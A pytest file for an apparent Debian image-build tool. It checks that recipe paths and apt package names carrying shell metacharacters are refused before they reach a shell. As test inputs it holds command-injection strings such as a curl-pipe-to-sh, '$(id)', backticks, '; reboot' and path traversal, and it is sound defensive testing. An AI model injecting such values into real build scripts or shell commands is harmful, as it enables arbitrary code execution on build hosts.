"""Issue 26, part 7: names from files that reach a shell string (the base recipe's `remove_after` and `purge_after`,
the packages of an `apt.in`) are checked against a strict pattern first, and refused in one line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hubforge.errors import HubforgeError
from hubforge.imagebuild import debs
from hubforge.imagebuild.base import Workspace, mmdebstrap_argv
from hubforge.imagebuild.lockfiles import requested_packages
from hubforge.imagebuild.targets import BaseSpec

WORK = Workspace(Path("/tmp/w/trusted/debian-archive.gpg"), Path("/tmp/w/repo"), Path("/tmp/w/report"))

ROOT = Path(__file__).resolve().parents[2]
KEYRING = Path("/tmp/w/trusted/debian-archive.gpg")  # the pinned keyring's copy, alone in its folder
RECIPE = json.loads((ROOT / "images/base/bootstrap.json").read_text())
SPEC = BaseSpec(mode="bootstrap")


def test_the_committed_recipe_and_apt_ins_pass():
    argv = mmdebstrap_argv(SPEC, RECIPE, Path("/tmp/out.tar"), WORK)
    assert any(a.startswith('--customize-hook=rm -rf "$1"/var/lib/apt/lists/*') for a in argv)
    for apt_in in sorted(ROOT.glob("images/*/*apt.in")):
        assert requested_packages(apt_in)


@pytest.mark.parametrize(
    "entry",
    [
        "/var/log/*; curl http://x | sh",
        "/var/log/$(id)",
        "/var/log/`id`",
        "var/log/*",
        "/var/../../etc",
        "/a b",
        "/var/log/*\nreboot",
        '/var/log/"',
    ],
)
def test_a_remove_after_entry_that_is_not_a_plain_path_is_refused(entry):
    with pytest.raises(HubforgeError) as refused:
        mmdebstrap_argv(SPEC, {**RECIPE, "remove_after": [entry]}, Path("/tmp/out.tar"), WORK)
    assert f"remove_after entry {entry!r}" in str(refused.value) and "\n" not in str(refused.value).replace(
        repr(entry), ""
    )


@pytest.mark.parametrize("name", ["perl; reboot", "$(id)", "perl|sh", "-rf", "Perl"])
def test_a_purge_after_name_that_is_not_a_package_is_refused(name):
    with pytest.raises(
        HubforgeError, match=r"^images/base/bootstrap.json purge_after: .* is not a Debian package name"
    ):
        mmdebstrap_argv(SPEC, {**RECIPE, "purge_after": [name]}, Path("/tmp/out.tar"), WORK)


@pytest.mark.parametrize("line", ["tini;reboot", "$(touch /tmp/pwned)", "tini|sh", "`id`", "tini&&id", "-y", "../x"])
def test_an_apt_in_name_that_is_not_a_package_is_refused_in_one_line(tmp_path, line):
    apt_in = tmp_path / "apt.in"
    apt_in.write_text(f"# packages\ntini\n{line}\n")
    with pytest.raises(HubforgeError) as refused:
        requested_packages(apt_in)
    message = str(refused.value)
    assert message.startswith(f"{apt_in}:3: ") and "is not a Debian package name" in message


def test_the_resolve_script_refuses_names_it_was_handed_directly():
    with pytest.raises(HubforgeError, match="is not a Debian package name"):
        debs.resolve_script(["tini", "$(reboot)"])
